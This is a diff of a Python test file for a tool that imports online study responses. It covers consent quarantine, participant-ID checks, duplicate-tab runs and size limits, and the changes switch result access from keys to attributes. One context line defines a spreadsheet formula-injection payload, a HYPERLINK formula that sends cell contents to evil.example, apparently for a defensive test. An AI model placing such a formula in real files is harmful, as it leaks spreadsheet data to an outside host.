@@ -90,10 +90,10 @@ def test_a_pavlovia_csv_with_an_empty_consent_cell_is_kept_out(study, tmp_path):
             w.writerow(["" if r.get(c) is None else json.dumps(r[c]) if isinstance(r[c], bool) else r[c]
                         for c in cols])
     out = import_web(study, [p])
-    assert out["answers"] == 0 and out.quarantined[0].startswith("FX2 run r1: no consent")
+    assert out.answers == 0 and out.quarantined[0].startswith("FX2 run r1: no consent")
     # the start record comes later (the participant's download): then the run is imported
     later = write_jsonl(tmp_path / "download.jsonl", web_records(study, "FX2", run="r2"))
-    assert import_web(study, [later])["participants"] == 1 and _people(study) == {"FX2"}
+    assert import_web(study, [later]).participants == 1 and _people(study) == {"FX2"}
 
 
 # --- item 8: the browser's strings -------------------------------------------------------------
@@ -105,7 +105,7 @@ def test_prolific_pid_must_be_the_participant_id(study, tmp_path):
         import_web(study, [f])
     assert nothing_imported(study)
     ok = write_jsonl(tmp_path / "ok.jsonl", web_records(study, "FX1", PROLIFIC_PID="FX1"))
-    assert import_web(study, [ok])["participants"] == 1
+    assert import_web(study, [ok]).participants == 1
 
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -179,7 +179,7 @@ def test_a_run_two_tabs_wrote_is_quarantined_and_the_rest_imported(study, tmp_pa
     # a later import (the same records again, in one tab's download) keeps it out
     tab1 = write_jsonl(tmp_path / "dl.jsonl", web_records(study, "P6good", run="rtabs"))
     res = import_web(study, [tab1])
-    assert res.files[0]["status"] == "nothing new" and len(res.quarantined) == 1
+    assert res.files[0].status == "nothing new" and len(res.quarantined) == 1
     assert (study / "web" / "responses.csv").read_bytes() == first
     # a new participant still comes in
     import_web(study, [write_jsonl(tmp_path / "p3.jsonl", web_records(study, "P3", run="r3"))])
@@ -206,7 +206,7 @@ def test_the_total_of_one_import_is_bounded_across_zip_entries_and_files(study, 
     with pytest.raises(WebImportError, match=r"b.jsonl: the files of one import hold more than"):
         import_web(study, [a, b])
     assert nothing_imported(study)
-    assert import_web(study, [a])["participants"] == 1 and import_web(study, [b])["participants"] == 2
+    assert import_web(study, [a]).participants == 1 and import_web(study, [b]).participants == 2
 
 
 def test_a_zip_entry_holding_more_than_it_states_is_stopped(study, tmp_path):
